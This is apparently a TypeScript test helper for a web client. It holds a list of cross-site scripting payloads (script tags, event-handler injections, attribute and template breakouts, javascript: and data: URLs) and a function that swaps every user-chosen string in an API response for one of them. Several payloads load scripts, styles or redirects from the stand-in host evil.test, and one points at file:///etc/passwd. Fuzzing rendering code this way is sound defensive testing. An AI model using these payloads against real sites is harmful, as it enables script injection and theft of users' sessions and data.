/** What becomes a script, a frame, a request or a style where text is taken for markup or an address. */
const RUN = 'window.__xss=1';
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.test/x.js"></script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import "https://evil.test/x.css";</style>`,
  `<link rel=stylesheet href="https://evil.test/x.css">`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<form action="https://evil.test/"><button autofocus>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `\`-${RUN}-\``,
  `';${RUN}//`,
  `";${RUN}//`,
  `\${${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `<%= ${RUN} %>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u2028${RUN}\u2029`,
  `background:url(javascript:${RUN})`,
  `x" style="position:fixed;inset:0;background:red`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://evil.test/%0a${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:https://evil.test/1`,
  `file:///etc/passwd`,
  `//evil.test/x`,
  `\\\\evil.test\\x`,
  `/\\evil.test`,
  `https://evil.test\\@bsky.app/`,
  `https://user:pass@evil.test/`,
  `http://evil.test/x.js`,
  `ftp://evil.test/x`,
  `intent://evil.test#Intent;scheme=https;end`,
];

export const PAYLOADS: readonly string[] = [...ELEMENTS, ...BREAKOUTS, ...ADDRESSES];

/** Names of fields whose value is not for people to choose: ids, states and times stay as they are. */
const FIXED = /^(id|status|tier|\$type|issuerId|planId)$|_id$|_at$|At$|Deadline$/u;

/** The same response with another payload in every text that a user could have chosen. */
export function poisoned(answer: unknown, next: () => string): unknown {
  if (typeof answer === 'string') return next();
  if (Array.isArray(answer)) return answer.map((entry) => poisoned(entry, next));
  if (typeof answer !== 'object' || answer === null) return answer;
  return Object.fromEntries(
    Object.entries(answer).map(([name, value]) => [
      name,
      FIXED.test(name) && typeof value === 'string' ? value : poisoned(value, next),
    ]),
  );
}
